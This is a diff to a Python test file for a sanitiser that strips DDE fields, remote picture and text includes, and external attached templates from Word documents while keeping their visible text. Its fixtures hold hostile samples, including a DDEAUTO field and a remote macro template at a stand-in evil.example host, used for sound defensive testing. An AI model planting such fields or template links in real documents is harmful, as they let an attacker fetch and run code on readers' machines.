@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+from briefing.draft.unlinking import unlinked
 from briefing.draft.warnings import fetches
 from briefing.errors import RulesError
 from briefing.formats.ooxml import open_package
@@ -22,7 +23,10 @@ THREATS = {
     "mini-XML of the page": ("test_nothing_is_opened_dropped_or_run", "test_only_plain_addresses_are_links", "test_any_text_can_be_printed"),
     "a paragraph of a megabyte": ("one-line.txt", "word.txt", "test_a_paragraph_of_a_hundred_thousand_letters_goes_over_pages"),
     "controls, surrogates, direction overrides": ("controls.txt", "surrogate.txt", "bidi.txt", "tags.txt", "zalgo.txt"),
-    "fields and templates in a draft that fetch": ("test_a_draft_that_fetches_is_told",),
+    "fields and templates in a draft that fetch": (
+        "test_a_draft_that_fetches_is_unlinked_and_keeps_its_words", "test_a_template_elsewhere_is_no_longer_asked_for",
+        "test_what_a_draft_runs_is_taken_out_by_the_merge",
+    ),
     "names, links, pipes": ("slip.zip", "names.zip", "test_a_link_that_leads_out_is_refused_and_one_inside_is_followed", "test_a_pipe_is_not_opened"),
     "front matter, TOML, JSON bombs and long numbers": ("front.md", "alias.md", "python.md", "deep.json", "number.json", "json-ld.html", "test_a_settings_bomb_is_told"),
     "mail: parts and charsets": ("parts.eml", "nested.eml", "charset.eml", "header.eml"),
@@ -57,6 +61,11 @@ def test_a_settings_bomb_is_told(text: str) -> None:
         settled.parse(text)
 
 
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+SETTINGS = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s" '
+    f'Type="{OFFICE}/settings" Target="settings.xml"/></Relationships>'
+)
 TEMPLATE = (
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" TargetMode="External" '
     'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"/>'
@@ -71,30 +80,79 @@ TYPES = (
 )
 
 
-def field(*pieces: str) -> str:
+def field(*pieces: str, inner: str = "", result: str = "") -> str:
+    """A field of runs; ``inner`` stands within its instruction, ``result`` is a word or fields again."""
     runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
-    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    after = result if result.startswith("<") else f"<w:r><w:t>{result}</w:t></w:r>"
+    begin, separate, end = (
+        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
+    )
+    return f"<w:p>{begin}{runs}{inner}{separate}{after}{end}</w:p>"
+
+
+def shown(data: bytes) -> str:
+    root = open_package(data).xml("word/document.xml")
+    return "".join(root.itertext(f"{{{hostile.W}}}t"))
+
+
+def code(data: bytes) -> str:
+    root = open_package(data).xml("word/document.xml")
+    simple = [part.get(f"{{{hostile.W}}}instr") or "" for part in root.iter(f"{{{hostile.W}}}fldSimple")]
+    return "".join([*root.itertext(f"{{{hostile.W}}}instrText"), *simple])
 
 
 @pytest.mark.parametrize(
-    ("body", "told"),
+    ("body", "told", "words"),
     [
-        (field(" DDE", "AUTO c:\\\\x "), ["DDEAUTO"]),
-        (field(' INCLUDEPICTURE "https://evil.example/a.png" '), ["INCLUDEPICTURE"]),
-        ('<w:p><w:fldSimple w:instr=" INCLUDETEXT x "/></w:p>', ["INCLUDETEXT"]),
-        (
-            field(' HYPERLINK "https://news.example" ')
-            + field(" TOC \\o ")
-            + '<w:fldSimple w:instr=" PAGE "/>',
-            [],
-        ),
+        (field(" DDE", "AUTO c:\\\\x ", result="42"), ["DDEAUTO"], "42"),
+        (field(' INCLUDEPICTURE "https://evil.example/a.png" '), ["INCLUDEPICTURE"], ""),
+        ('<w:p><w:fldSimple w:instr=" INCLUDETEXT x "><w:r><w:t>as shown</w:t></w:r></w:fldSimple></w:p>', ["INCLUDETEXT"], "as shown"),
+        (field(" INCLUDEPICTURE ", inner=field(" FILENAME ", result="never shown"), result="one"), ["INCLUDEPICTURE"], "one"),
+        (field(" LINK a ", result=field(" DDE b ", result="two")), ["DDE", "LINK"], "two"),
+        (field(" INCLUDETEXT ", inner=field(" DDE b ", result="unseen"), result="three"), ["DDE", "INCLUDETEXT"], "three"),
+        ('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DDE x</w:instrText></w:r></w:p>', ["DDE"], ""),
+    ],
+)  # fmt: skip
+def test_a_draft_that_fetches_is_unlinked_and_keeps_its_words(body: str, told: list[str], words: str) -> None:
+    data, taken_out = unlinked(hostile.docx(body, "", TYPES))
+    assert list(taken_out) == told
+    assert (shown(data), code(data)) == (words, "")
+    assert b"fldChar" not in open_package(data).parts["word/document.xml"]
+
+
+def test_fields_that_fetch_nothing_stay_byte_for_byte() -> None:
+    body = field(' HYPERLINK "https://news.example/import" ', result="a link") + field(" TOC \\o ")
+    data = hostile.docx(body + '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>', "", TYPES)
+    assert unlinked(data) == (data, ())
+
+
+@pytest.mark.parametrize(
+    ("address", "gone"),
+    [
+        ("https://evil.example/t.dotm", ["t"]),
+        ("\\\\server\\share\\t.dotm", ["t"]),
+        ("file://server/share/t.dotm", ["t"]),
+        ("file:///C:/Users/Ann/t.dotm", []),
+        ("C:\\Users\\Ann\\t.dotm", []),
+        ("t.dotm", []),
     ],
 )
-def test_a_draft_that_fetches_is_told(body: str, told: list[str]) -> None:
-    package = open_package(hostile.docx(body, "", TYPES))
-    assert fetches(package) == told
-    settings = ("word/settings.xml", f'<w:settings xmlns:w="{hostile.W}"/>')
-    package = open_package(
-        hostile.docx(body, "", TYPES, settings, ("word/_rels/settings.xml.rels", TEMPLATE))
-    )
-    assert fetches(package) == sorted([*told, "attachedTemplate https://evil.example/t.dotm"])
+def test_a_template_elsewhere_is_no_longer_asked_for(address: str, gone: list[str]) -> None:
+    relations = TEMPLATE.replace("https://evil.example/t.dotm", address)
+    link = f'<w:settings xmlns:w="{hostile.W}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="t"/></w:settings>'
+    came = hostile.docx(
+        "<w:p/>", "", TYPES, ("word/_rels/document.xml.rels", SETTINGS),
+        ("word/settings.xml", link), ("word/_rels/settings.xml.rels", relations),
+    )  # fmt: skip
+    data, taken_out = unlinked(came)
+    assert list(taken_out) == [f"attachedTemplate {address}" for _ in gone]
+    kept = open_package(data)
+    assert (b"attachedTemplate" in kept.parts["word/settings.xml"]) is not bool(gone)
+    ids = [relation.id for relation in kept.relationships("word/settings.xml")]
+    assert [*gone, *ids] == ["t", "h"]
+
+
+def test_an_object_elsewhere_stays_and_is_told() -> None:
+    relations = TEMPLATE.replace("attachedTemplate", "oleObject")
+    package = open_package(hostile.docx("<w:p/>", "", TYPES, ("word/_rels/settings.xml.rels", relations)))
+    assert fetches(package) == ["oleObject https://evil.example/t.dotm"]
